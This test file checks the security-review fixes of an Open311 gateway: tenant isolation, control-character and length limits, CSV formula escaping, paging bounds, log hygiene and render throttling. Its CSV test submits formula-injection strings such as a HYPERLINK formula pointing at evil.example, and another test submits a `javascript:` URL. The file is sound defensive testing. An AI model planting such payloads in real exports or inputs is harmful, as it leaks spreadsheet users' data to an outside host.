// The Open311 items of the security review, each against the real app over HTTP with a real SQLite
// file: tenant isolation of submissions, the text rule and field limits, CSV formula injection,
// paging integers, full paths in log lines, and the per-client bound on list renders.
import assert from 'node:assert/strict';
import { createServer, request as httpRequest, type Server } from 'node:http';
import { connect, type AddressInfo, type Socket } from 'node:net';
import Database from 'better-sqlite3';
import { XmlDocument } from 'libxml2-wasm';
import request from 'supertest';
import { ADMIN_TOKEN, createTestGateway, type TestGateway } from '../helpers/gateway.ts';
import { SCHLAGLOCH, setUpMangelmelder, type Mangelmelder } from '../helpers/open311.ts';

const form = (fields: Record<string, string | string[]>) =>
  new URLSearchParams(Object.entries(fields).flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x]) : [[k, v]]))).toString();

/** Throws unless `xml` is well-formed for a strict parser (libxml2). */
function assertWellFormed(xml: string): void {
  XmlDocument.fromString(xml).dispose();
}

/** RFC 4180 CSV → rows of cells (quoted cells may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

describe('open311/security: the review items on the Open311 side', function () {
  this.timeout(120_000);
  let gw: TestGateway;
  let mm: Mangelmelder;
  beforeEach(async () => {
    gw = await createTestGateway({ GATEWAY_OPEN311_RATE_PER_MINUTE: '10000' });
    mm = await setUpMangelmelder(gw);
  });
  afterEach(async () => { await gw.close(); });

  const post = (format: string, fields: Record<string, string | string[]>, key: string | null = mm.submit, query = '') =>
    request(gw.app).post(`/open311/v2/requests.${format}${query}`).type('form').send(form(key ? { ...fields, api_key: key } : fields));
  const count = (sql: string, ...args: unknown[]) => (gw.store.db.prepare(sql).get(...args) as { n: number }).n;
  const descriptions = (res: { body: Array<{ description: string }> }) => res.body.map((e) => e.description).join(' | ');

  describe('item 1: a key never writes into another tenant', () => {
    it("tenant B's key without jurisdiction_id, while only A serves Open311, is refused and nothing is stored in A", async () => {
      const bKey = await gw.tenant('olbernhau', ['open311:submit']);
      const reports = count('SELECT count(*) AS n FROM service_request');
      const personal = count('SELECT count(*) AS n FROM service_request_personal');
      for (const format of ['json', 'xml']) {
        const res = await post(format, { service_code: 'schlagloch', lat: '50.71', long: '13.42', description: 'Loch', email: 'b-melder@example.org' }, bKey);
        assert.ok(res.status >= 400 && res.status < 500, `${format}: ${res.status} ${res.text}`);
        assert.match(res.text, /olbernhau/, 'the error names the key\'s own jurisdiction');
        assert.match(res.text, /serves no Open311 categories/);
      }
      // the same key, sent as a header instead of api_key
      await request(gw.app).post('/open311/v2/requests.json').set('Authorization', `Bearer ${bKey}`).type('form').send(form({ service_code: 'schlagloch', lat: '50.71', long: '13.42' })).expect((r) => assert.ok(r.status >= 400 && r.status < 500));
      // naming A explicitly was and stays 403
      await post('json', { service_code: 'schlagloch', lat: '50.71', long: '13.42', jurisdiction_id: 'sayda' }, bKey).expect(403);
      assert.equal(count('SELECT count(*) AS n FROM service_request'), reports);
      assert.equal(count('SELECT count(*) AS n FROM service_request_personal'), personal);
      assert.equal(count("SELECT count(*) AS n FROM service_request_personal WHERE email = 'b-melder@example.org'"), 0);
    });

    it("B's key stores in B once B serves Open311 (with and without B's jurisdiction_id); the admin token keeps its rule", async () => {
      const bStaff = await gw.tenant('olbernhau', ['open311:manage']);
      const bKey = await gw.key('olbernhau', ['open311:submit']);
      await request(gw.app).post('/api/v1/tenants/olbernhau/services').set('Authorization', `Bearer ${bStaff}`).send(SCHLAGLOCH).expect(201);
      const inA = count("SELECT count(*) AS n FROM service_request WHERE tenant_id = 'sayda'");
      const withId = (await post('json', { service_code: 'schlagloch', address_string: 'Markt 1, Olbernhau', jurisdiction_id: 'olbernhau' }, bKey).expect(200)).body[0].service_request_id;
      const without = (await post('json', { service_code: 'schlagloch', address_string: 'Markt 2, Olbernhau' }, bKey).expect(200)).body[0].service_request_id;
      for (const id of [withId, without]) assert.equal((gw.store.db.prepare('SELECT tenant_id FROM service_request WHERE id = ?').get(id) as { tenant_id: string }).tenant_id, 'olbernhau');
      assert.equal(count("SELECT count(*) AS n FROM service_request WHERE tenant_id = 'sayda'"), inA);
      // A's key without jurisdiction_id still goes to A
      const aId = (await post('json', { service_code: 'schlagloch', address_string: 'Markt 3, Sayda' }).expect(200)).body[0].service_request_id;
      assert.equal((gw.store.db.prepare('SELECT tenant_id FROM service_request WHERE id = ?').get(aId) as { tenant_id: string }).tenant_id, 'sayda');
      // the admin token without jurisdiction_id: the only served jurisdiction, else 400
      const admin = await post('json', { service_code: 'schlagloch', address_string: 'Markt 4' }, ADMIN_TOKEN).expect(400);
      assert.match(descriptions(admin), /jurisdiction_id is required/);
      await post('json', { service_code: 'schlagloch', address_string: 'Markt 4', jurisdiction_id: 'olbernhau' }, ADMIN_TOKEN).expect(200);
    });
  });

  describe('item 4: the text rule for every field, and XML that stays well-formed', () => {
    const base = { service_code: 'wegweiser', lat: '50.70', long: '13.40', 'attribute[schaden]': 'fehlt' };
    const fields = ['description', 'address_string', 'address_id', 'zipcode', 'email', 'first_name', 'last_name', 'phone', 'device_id', 'deviceid', 'account_id', 'media_url', 'attribute[wegnummer]', 'service_code', 'lat', 'jurisdiction_id', 'api_key'];

    it('a NUL, another C0 control or U+FFFE in any submitted field is a 400 naming the field; nothing is stored', async () => {
      const before = count('SELECT count(*) AS n FROM service_request');
      for (const bad of ['\u0000', '\u0001', '\u001F', '\uFFFE']) {
        for (const field of fields) {
          const value = field === 'media_url' ? `https://example.org/${bad}.jpg` : `Wert${bad}Ende`;
          for (const format of ['json', 'xml']) {
            const res = await post(format, { ...base, [field]: value }, field === 'api_key' ? null : mm.submit);
            assert.equal(res.status, 400, `${field} with U+${bad.codePointAt(0)!.toString(16)} (${format}): ${res.status} ${res.text.slice(0, 200)}`);
            const name = field === 'attribute[wegnummer]' ? 'attribute\\[wegnummer\\]' : field;
            if (format === 'xml') {
              assertWellFormed(res.text);
              assert.match(res.text, new RegExp(`<description>${name} contains a control character`), res.text);
            } else assert.match(descriptions(res), new RegExp(`${name} contains a control character`));
          }
        }
      }
      // also in the query string (Open311 lets form fields come there) and as an attribute code
      await post('json', base, mm.submit, '?description=a%00b').expect(400);
      const code = await post('xml', { ...base, 'attribute[we\u0001g]': 'x' }).expect(400);
      assertWellFormed(code.text);
      assert.equal(count('SELECT count(*) AS n FROM service_request'), before);
      // tab, LF and CR remain text
      await post('json', { ...base, description: 'Zeile 1\r\nZeile 2\tEnde' }).expect(200);
    });

    it('error documents never echo such characters from the URL', async () => {
      for (const url of ['/open311/v2/services.xml?jurisdiction_id=a%01b', '/open311/v2/requests.xml?status=a%01b', '/open311/v2/requests/a%01b.xml', '/open311/v2/services/a%01b.xml', '/open311/v2/tokens/a%01b.xml', '/open311/v2/requests.xml?page=a%01b', '/open311/v2/x%01y.xml']) {
        const res = await request(gw.app).get(url);
        assert.ok(res.status === 400 || res.status === 404, `${url}: ${res.status}`);
        assertWellFormed(res.text);
        assert.ok(!res.text.includes('\u0001'), url);
      }
      const res = await request(gw.app).get('/open311/v2/services.xml?jurisdiction_id=a%01b').expect(400);
      assert.match(res.text, /jurisdiction_id contains a control character/);
      const quoted = await request(gw.app).get('/open311/v2/requests/a%01b.json').expect(404);
      assert.equal(quoted.body[0].description, 'service_request_id a\uFFFDb does not exist');
    });

    it('a row stored before the rule (a NUL, a C0 control, U+FFFE in description and address) still gives well-formed requests.xml', async () => {
      const ids: string[] = [];
      for (let i = 0; i < 2; i++) ids.push((await post('json', { service_code: 'schlagloch', lat: '50.71', long: '13.42', description: `Loch ${i}` }).expect(200)).body[0].service_request_id);
      // written straight into the table, as by an older version
      const other = new Database(gw.config.dbFile);
      try {
        other.prepare('UPDATE service_request SET description = ?, address = ?, status_notes = ? WHERE id = ?').run('NUL\u0000 und \u0007 und \uFFFE', 'Weg \u0001 3', 'Notiz\u001B', ids[0]);
      } finally { other.close(); }
      for (const url of ['/open311/v2/requests.xml', '/open311/v2/requests.xml?extensions=true', `/open311/v2/requests/${ids[0]}.xml`]) {
        const xml = await request(gw.app).get(url).expect(200);
        assertWellFormed(xml.text);
        assert.match(xml.text, /<description>NUL\uFFFD und \uFFFD und \uFFFD<\/description>/);
        assert.match(xml.text, /<address>Weg \uFFFD 3<\/address>/);
      }
      // JSON carries the stored text as it is (escaped): it parses
      const json = (await request(gw.app).get(`/open311/v2/requests/${ids[0]}.json`).expect(200)).body;
      assert.equal(json[0].description, 'NUL\u0000 und \u0007 und \uFFFE');
    });
  });

  describe('XML writer: text that looks like markup', () => {
    it('&name; &amp; and ]]> in a description come back as the same text from a well-formed requests.xml (found while measuring item 5)', async () => {
      const description = 'Tom &amp; Jerry &nbsp;&A; <b>fett</b> ]]> &#0; Ende';
      const id = (await post('json', { service_code: 'schlagloch', lat: '50.71', long: '13.42', description }).expect(200)).body[0].service_request_id;
      for (const url of ['/open311/v2/requests.xml', `/open311/v2/requests/${id}.xml`]) {
        const xml = await request(gw.app).get(url).expect(200);
        const doc = XmlDocument.fromString(xml.text);
        try {
          assert.equal(doc.get('//request/description')?.content, description);
        } finally { doc.dispose(); }
      }
    });
  });

  describe('item 5: every submitted field has a limit', () => {
    const LIMITS: Record<string, number> = { address_string: 500, address_id: 200, zipcode: 16, description: 4000, email: 254, first_name: 100, last_name: 100, phone: 40, device_id: 200, deviceid: 200, account_id: 200 };
    const base = { service_code: 'schlagloch', lat: '50.71', long: '13.42' };

    it('each field at its limit is accepted, one character more is a 400 naming the field and the limit; nothing is stored', async () => {
      for (const [field, max] of Object.entries(LIMITS)) await post('json', { ...base, [field]: 'a'.repeat(max) }).expect(200);
      const before = count('SELECT count(*) AS n FROM service_request');
      for (const [field, max] of Object.entries(LIMITS)) {
        const res = await post('json', { ...base, [field]: 'a'.repeat(max + 1) }).expect(400);
        assert.match(descriptions(res), new RegExp(`${field} must not exceed ${max} characters`));
      }
      // several at once: every one named
      const many = await post('xml', { ...base, address_string: 'a'.repeat(501), email: 'a'.repeat(255) }).expect(400);
      assert.match(many.text, /address_string must not exceed 500/);
      assert.match(many.text, /email must not exceed 254/);
      assert.equal(count('SELECT count(*) AS n FROM service_request'), before);
    });

    it('media_url: at most 5 values of at most 2000 characters, each an http(s) URL', async () => {
      const url = (n: number) => `https://bilder.example/${'a'.repeat(n - 23)}`;
      assert.equal(url(2000).length, 2000);
      const ok = (await post('json', { ...base, media_url: Array.from({ length: 5 }, () => url(2000)) }).expect(200)).body[0].service_request_id;
      assert.equal((JSON.parse((gw.store.db.prepare('SELECT media_urls FROM service_request WHERE id = ?').get(ok) as { media_urls: string }).media_urls) as string[]).length, 5);
      const before = count('SELECT count(*) AS n FROM service_request');
      assert.match(descriptions(await post('json', { ...base, media_url: Array.from({ length: 6 }, () => url(100)) }).expect(400)), /at most 5 media_url values/);
      assert.match(descriptions(await post('json', { ...base, media_url: url(2001) }).expect(400)), /media_url must not exceed 2000 characters/);
      assert.match(descriptions(await post('json', { ...base, media_url: 'javascript:alert(1)' }).expect(400)), /media_url must be an http\(s\) URL/);
      assert.equal(count('SELECT count(*) AS n FROM service_request'), before);
    });

    it('attributes: the definition\'s limits as before, and all codes and values of one report together at most 8000 characters', async () => {
      const wegweiser = { service_code: 'wegweiser', lat: '50.70', long: '13.40', 'attribute[schaden]': 'fehlt' };
      await post('json', { ...wegweiser, 'attribute[wegnummer]': 'a'.repeat(1000) }).expect(200);
      assert.match(descriptions(await post('json', { ...wegweiser, 'attribute[wegnummer]': 'a'.repeat(1001) }).expect(400)), /attribute\[wegnummer\]/);
      // attributes the category does not define (FixMyStreet sends some) are kept, within bounds
      await post('json', { ...wegweiser, 'attribute[report_url]': 'a'.repeat(4000) }).expect(200);
      const before = count('SELECT count(*) AS n FROM service_request');
      assert.match(descriptions(await post('json', { ...wegweiser, 'attribute[report_url]': 'a'.repeat(4001) }).expect(400)), /attribute\[report_url\] must not exceed 4000 characters/);
      const extras = Object.fromEntries(Array.from({ length: 3 }, (_, i) => [`attribute[extra${i}]`, 'a'.repeat(3000)]));
      assert.match(descriptions(await post('json', { ...wegweiser, ...extras }).expect(400)), /the attributes must not exceed 8000 characters together/);
      assert.equal(count('SELECT count(*) AS n FROM service_request'), before);
    });
  });

  describe('item 6: CSV formula injection', () => {
    it('string cells beginning with = + - @ tab or CR get a leading quote; numbers stay numbers', async () => {
      const staff = await gw.tenant('weit', ['open311:manage']); // no area: any coordinates
      const key = await gw.key('weit', ['open311:submit']);
      await request(gw.app).post('/api/v1/tenants/weit/services').set('Authorization', `Bearer ${staff}`).send(SCHLAGLOCH).expect(201);
      const leads = ['=', '+', '-', '@', '\t', '\r'];
      const sent = new Map<string, { description: string; address: string }>();
      for (const [i, c] of leads.entries()) {
        const description = `${c}HYPERLINK("http://evil.example/?"&A1,"klick") ${i}`;
        const address = `${c}1+2 Weg ${i}`;
        const id = (await post('json', { service_code: 'schlagloch', lat: '-33.45', long: '-70.66', description, address_string: address, jurisdiction_id: 'weit' }, key).expect(200)).body[0].service_request_id;
        sent.set(id, { description, address });
      }
      const plain = (await post('json', { service_code: 'schlagloch', lat: '-33.45', long: '-70.66', description: 'Ein Loch, 3 m breit', jurisdiction_id: 'weit' }, key).expect(200)).body[0].service_request_id;
      const csv = await request(gw.app).get('/open311/v2/requests.csv?jurisdiction_id=weit').expect(200);
      const [header, ...rows] = parseCsv(csv.text);
      const col = (name: string) => header!.indexOf(name);
      assert.equal(rows.length, leads.length + 1);
      for (const row of rows) {
        const id = row[col('service_request_id')]!;
        assert.equal(row[col('lat')], '-33.45', 'a number stays a number');
        assert.equal(row[col('long')], '-70.66');
        if (id === plain) {
          assert.equal(row[col('description')], 'Ein Loch, 3 m breit');
          continue;
        }
        const s = sent.get(id)!;
        assert.equal(row[col('description')], `'${s.description}`);
        assert.equal(row[col('address')], `'${s.address}`);
      }
      // the spec's formats are unchanged
      const json = (await request(gw.app).get('/open311/v2/requests.json?jurisdiction_id=weit').expect(200)).body as Array<{ service_request_id: string; description: string }>;
      for (const r of json) if (sent.has(r.service_request_id)) assert.equal(r.description, sent.get(r.service_request_id)!.description);
    });
  });

  describe('item 9: paging integers', () => {
    it('page and page_size on the public lists accept only decimal integers in range (400 saying the range); past the end is empty', async () => {
      await post('json', { service_code: 'schlagloch', lat: '50.71', long: '13.42' }).expect(200);
      for (const bad of ['page=1e17', 'page=1e20', 'page=99999999999999999999', 'page=0x10', 'page=1000000001', 'page=0', 'page=1.5', 'page_size=1e3', 'page_size=0x10', 'page_size=1001']) {
        for (const format of ['json', 'xml', 'csv', 'geojson']) {
          const res = await request(gw.app).get(`/open311/v2/requests.${format}?${bad}`);
          assert.equal(res.status, 400, `${bad} (${format}): ${res.status} ${res.text.slice(0, 200)}`);
          const name = bad.split('=')[0];
          assert.match(res.text, name === 'page' ? /page must be an integer from 1 to 1000000000/ : /page_size must be an integer from 1 to 1000/, bad);
        }
      }
      assert.deepEqual((await request(gw.app).get('/open311/v2/requests.json?page=1000000000').expect(200)).body, []);
      assert.deepEqual((await request(gw.app).get('/open311/v2/requests.json?page=1000000000&page_size=1000').expect(200)).body, []);
      assert.equal((await request(gw.app).get('/open311/v2/requests.json?page=1&page_size=1').expect(200)).body.length, 1);
    });

    it('limit and offset of the staff request list: decimal integers in range, else a 400 problem saying the range', async () => {
      const list = (q: string) => request(gw.app).get(`/api/v1/tenants/sayda/requests?${q}`).set('Authorization', `Bearer ${mm.staff}`);
      await post('json', { service_code: 'schlagloch', lat: '50.71', long: '13.42' }).expect(200);
      for (const bad of ['offset=1e20', 'offset=1e17', 'offset=99999999999999999999', 'offset=0x10', 'offset=-1', 'offset=1000000001', 'limit=1e2', 'limit=0x10', 'limit=99999999999999999999', 'limit=0']) {
        const res = await list(bad);
        assert.equal(res.status, 400, `${bad}: ${res.status} ${res.text.slice(0, 200)}`);
        assert.match(String(res.headers['content-type']), /^application\/problem\+json/);
        assert.match(res.body.detail, bad.startsWith('offset') ? /offset must be an integer from 0 to 1000000000/ : /limit must be an integer from 1 to 1000/);
      }
      assert.deepEqual((await list('offset=1000000000').expect(200)).body.items, []);
      assert.equal((await list('limit=1&offset=0').expect(200)).body.items.length, 1);
    });
  });

  describe('item 11: Open311 log lines carry the full path, never the query', () => {
    it('the error line of a failure and the request line of an Open311 error answer name /open311/v2/…', async () => {
      // a real failure: the table of status updates is gone (as after a broken migration)
      const other = new Database(gw.config.dbFile);
      try { other.exec('DROP TABLE service_request_update'); } finally { other.close(); }
      const from = gw.logLines.length;
      const res = await request(gw.app).get('/open311/v2/servicerequestupdates.json?start_date=2020-01-01T00:00:00Z&api_key=geheim-im-query').expect(500);
      assert.equal(res.body[0].code, 500);
      assert.doesNotMatch(res.text, /no such table|at .*\.ts/);
      await request(gw.app).get('/open311/v2/services/gibtsnicht.xml?jurisdiction_id=sayda').expect(404);
      const lines = gw.logLines.slice(from).map((l) => JSON.parse(l) as { msg: string; path?: string; status?: number });
      const error = lines.find((l) => l.msg === 'open311 request failed');
      assert.equal(error?.path, '/open311/v2/servicerequestupdates.json');
      const requests = lines.filter((l) => l.msg === 'request').map((l) => `${l.status} ${l.path}`);
      assert.deepEqual(requests, ['500 /open311/v2/servicerequestupdates.json', '404 /open311/v2/services/gibtsnicht.xml']);
      assert.ok(!gw.logLines.slice(from).some((l) => l.includes('geheim-im-query') || l.includes('start_date')));
    });
  });

  describe('item 5: list renders per client', () => {
    let server: Server;
    let port: number;
    afterEach(async () => { await new Promise((r) => server.close(r)); });

    /** A GET from a given loopback address: status, headers, body. */
    const get = (path: string, localAddress: string) => new Promise<{ status: number; headers: Record<string, unknown>; body: string }>((resolve, reject) => {
      httpRequest({ host: '127.0.0.1', port, path, localAddress, agent: false }, (res) => {
        let body = '';
        res.setEncoding('utf8').on('data', (c: string) => { body += c; }).on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      }).on('error', reject).end();
    });

    it('at most 4 list answers in progress per client address: the 5th is a 429 with Retry-After in the Open311 format; others are served; freed when a client goes', async () => {
      // 1000 worst-case released reports (XML escapes & as &amp;): each list answer is ~40 MB, more than
      // loopback socket buffers hold, so a client that stops reading keeps its answer in progress
      const repo = gw.store.serviceRequests;
      await Promise.all(Array.from({ length: 1000 }, () => repo.create({ tenant: 'sayda', service_code: 'schlagloch', released: true, description: '&'.repeat(4000), lat: 50.71, long: 13.42, address: '&'.repeat(500), address_id: '&'.repeat(200), zipcode: null, attributes: {}, media_urls: [`https://b.example/${'&'.repeat(1980)}`], token: null, personal: null })));
      gw.store.db.prepare('UPDATE service_request SET status_notes = ?').run('&'.repeat(2000));
      server = createServer(gw.app).listen(0, '127.0.0.1');
      await new Promise((r) => server.once('listening', r));
      port = (server.address() as AddressInfo).port;

      const held: Socket[] = [];
      try {
        for (let i = 0; i < 4; i++) {
          const socket = connect({ host: '127.0.0.1', port, localAddress: '127.0.0.1' });
          held.push(socket);
          socket.write(`GET /open311/v2/requests.xml?page_size=${1000 - i} HTTP/1.1\r\nHost: gateway.test\r\nConnection: close\r\n\r\n`);
          // the answer has started (its place is taken); then stop reading
          const first = await new Promise<string>((resolve, reject) => { socket.once('data', (c: Buffer) => { socket.pause(); resolve(c.toString('latin1')); }).once('error', reject); });
          assert.match(first, /^HTTP\/1\.1 200/);
        }
        const refused = await get('/open311/v2/requests.xml?page_size=1', '127.0.0.1');
        assert.equal(refused.status, 429);
        assert.ok(Number(refused.headers['retry-after']) > 0);
        assertWellFormed(refused.body);
        assert.match(refused.body, /<code>429<\/code><description>at most 4 Open311 list answers per client at once/);
        const updates = await get('/open311/v2/servicerequestupdates.json?page_size=1', '127.0.0.1');
        assert.equal(updates.status, 429);
        assert.equal(JSON.parse(updates.body)[0].code, 429);
        // another client is not affected, nor are cheap answers of the same client
        assert.equal((await get('/open311/v2/requests.json?page_size=1', '127.0.0.2')).status, 200);
        assert.equal((await get('/open311/v2/services.json', '127.0.0.1')).status, 200);
      } finally {
        for (const s of held) s.destroy();
      }
      // places are given back when the connections close (polled, bounded)
      let status = 0;
      for (let i = 0; i < 200 && status !== 200; i++) {
        status = (await get('/open311/v2/requests.json?page_size=2', '127.0.0.1')).status;
        if (status !== 200) await new Promise((r) => setImmediate(r));
      }
      assert.equal(status, 200);
    });

    it('identical list requests in progress share one render: eight at once from one address are all answered, with the same bytes', async () => {
      // 1000 large reports make the render long enough for all eight to meet it
      const repo = gw.store.serviceRequests;
      await Promise.all(Array.from({ length: 1000 }, (_, i) => repo.create({ tenant: 'sayda', service_code: 'schlagloch', released: true, description: `${i} ${'&'.repeat(4000)}`, lat: 50.71, long: 13.42, address: '&'.repeat(500), address_id: null, zipcode: null, attributes: {}, media_urls: [], token: null, personal: null })));
      server = createServer(gw.app).listen(0, '127.0.0.1');
      await new Promise((r) => server.once('listening', r));
      port = (server.address() as AddressInfo).port;
      const answers = await Promise.all(Array.from({ length: 8 }, () => get('/open311/v2/requests.json?page_size=999', '127.0.0.3')));
      assert.deepEqual(answers.map((a) => a.status), Array(8).fill(200), answers.map((a) => a.body.slice(0, 120)).join(' | '));
      assert.equal(new Set(answers.map((a) => a.body)).size, 1);
      assert.equal(JSON.parse(answers[0]!.body).length, 999);
    });
  });
});
